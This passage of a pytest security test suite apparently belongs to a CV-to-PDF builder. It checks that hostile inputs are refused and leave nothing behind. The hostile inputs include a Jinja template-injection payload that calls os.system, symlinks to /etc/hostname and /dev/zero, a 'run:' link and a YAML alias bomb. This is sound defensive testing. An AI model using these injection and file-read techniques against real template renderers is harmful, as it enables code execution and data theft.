    root = Path(__file__).resolve().parents[2]
    text = (root / "SECURITY.md").read_text(encoding="utf-8")
    files = set(re.findall(r"`(tests/[\w/]+\.py)`", text))
    names = set(re.findall(r"`(test_\w+)`", text))
    assert len(files) >= 5 and len(names) >= 20
    for file in files:
        assert (root / file).is_file(), file
    defined = {m for path in (root / "tests").rglob("test_*.py")
               for m in re.findall(r"^def (test_\w+)", path.read_text(encoding="utf-8"), re.M)}
    assert names <= defined, names - defined


# ------------------------------------------------------------------ every class, one folder


@pytest.fixture(scope="module")
def last_good(tex, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("last-good")
    write_cv(folder, ru="Хорошая версия", en="Good version")
    assert run("pdf", cwd=folder).returncode == 0
    return folder


def _attack(folder: Path, kind: str, mark: Path) -> None:
    if kind == "theme":
        local_theme(folder, first_line=f"<< cycler.__init__.__globals__.os.system('touch {mark}') >>")
    elif kind == "theme-include":
        (local_theme(folder, first_line='((* include "x" *))') / "x").symlink_to("/etc/hostname")
    elif kind == "link":
        write_cv(folder, ru="а", en=f"[x](run:touch%20{mark})")
    elif kind == "word":
        write_cv(folder, ru="а", en="ж" * 5000)
    elif kind == "number":
        write_cv(folder, text=MINI.format(ru="а", en="a").replace('"a"', "9" * 5000))
    elif kind == "aliases":
        write_cv(folder, text="x: &t \"" + "ab cd " * 20_000 + "\"\ny: [" + ", ".join(["*t"] * 40)
                 + "]\n" + MINI.format(ru="а", en="a"))
    elif kind == "languages":
        codes = [a + b for a in "abcdefghij" for b in "xyz"]
        write_cv(folder, text=f"languages: [{', '.join(codes)}]\nheader:\n  name: N\n")
    elif kind == "photo":
        (folder / "me.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 3000)
        write_cv(folder, text=MINI.format(ru="а", en="a").replace(
            "    en: Anna Smirnova\n", "    en: Anna Smirnova\n  photo: me.png\n"))
    elif kind == "dev-zero":
        (folder / "cv.yaml").unlink()
        (folder / "cv.yaml").symlink_to("/dev/zero")


@pytest.mark.parametrize("kind", ["theme", "theme-include", "link", "word", "number",
                                  "aliases", "languages", "photo", "dev-zero"])
def test_each_attack_leaves_the_last_good_pdfs_and_runs_nothing(last_good, tmp_path, kind):
    folder = tmp_path / "cv"
    shutil.copytree(last_good, folder, symlinks=True)
    before = snapshot(folder / "build")
    outside = snapshot(tmp_path)
    mark = tmp_path / "MARK"
    _attack(folder, kind, mark)
    result = run("pdf", cwd=folder, timeout=120)
    refused(result)
    assert not mark.exists()  # no command ran
    assert snapshot(folder / "build") == before  # the last good PDFs, and nothing new
    assert snapshot(tmp_path) == outside  # nothing written beside the CV's folder
    assert os.uname().nodename not in result.stderr + result.stdout  # /etc/hostname unread
